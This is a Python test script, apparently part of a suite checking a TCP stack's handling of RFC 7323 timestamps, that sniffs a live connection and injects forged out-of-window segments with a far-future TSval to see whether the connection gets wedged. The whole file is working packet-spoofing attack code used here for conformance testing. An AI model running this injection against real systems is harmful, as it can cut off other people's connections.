# Attack d: TS.Recent push-ahead (RFC 7323 §5.3). The kernel's own connection to the echo (its 4-tuple, SND.NXT
# and TSval read off the wire), then out-of-window segments on that 4-tuple (sequence numbers behind the
# stack's RCV.NXT) with a TSval far ahead. If the stack takes TS.Recent from a segment it then finds
# unacceptable, every later segment of the real peer fails PAWS and the connection is wedged.
import socket, sys
sys.path.insert(0, sys.argv[1])
from rawnet import *
ifname, stack, port = sys.argv[2], sys.argv[3], int(sys.argv[4])
tap = Tap(ifname)
smac = stack_mac(stack)
s = socket.create_connection((stack, port), timeout=10)
lport = s.getsockname()[1]
kernel = s.getsockname()[0]
def echo(msg, timeout):
    s.settimeout(timeout)
    s.sendall(msg)
    got = b""
    while len(got) < len(msg):
        d = s.recv(65536)
        if not d:
            die("EOF from the echo")
        got += d
    if got != msg:
        die("echo mismatch")
tap.drain()
echo(b"before the attack\n", 5)
last = None
deadline = time.monotonic() + 2
while time.monotonic() < deadline:
    f, out = tap.recv_any(0.2)
    if f is not None and out and f.tcp and f.sport == lport and f.tsval is not None:
        last = f
if last is None:
    # ACKs may have been sent before the sniffer saw them: make one more exchange and read the kernel's segment.
    s.sendall(b"x")
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline and last is None:
        f, out = tap.recv_any(0.2)
        if f is not None and out and f.tcp and f.sport == lport and f.tsval is not None:
            last = f
    s.recv(1)
if last is None:
    die("did not see the kernel's segments with timestamps (TCP timestamps off?)")
snd_nxt = (last.seq + len(last.data)) & 0xFFFFFFFF
print("connection %s:%d > %s:%d, kernel SND.NXT %d, TSval %d" % (kernel, lport, stack, port, snd_nxt, last.tsval),
      flush=True)
future = (last.tsval + 0x40000000) & 0xFFFFFFFF
n = 0
for back in (100000, 300000, 1 << 20, 1 << 24):
    for flags in (ACK, ACK | PSH):
        data = b"z" * 10 if flags & PSH else b""
        seg = tcp(kernel, stack, lport, port, snd_nxt - back, last.ack, flags, last.win, opt_ts(future, last.tsecr), data)
        tap.send(eth(smac, tap.mac, ETH_IP, ipv4(kernel, stack, 6, seg)))
        n += 1
print("injected %d out-of-window segments with TSval %d" % (n, future), flush=True)
time.sleep(0.2)
t0 = time.monotonic()
try:
    for i in range(5):
        echo(b"after the attack %d\n" % i * 100, 5)
except OSError as e:
    die("the connection is wedged after the TS.Recent push: %r after %.1f s" % (e, time.monotonic() - t0))
s.close()
print("the connection still carries data after the attack")
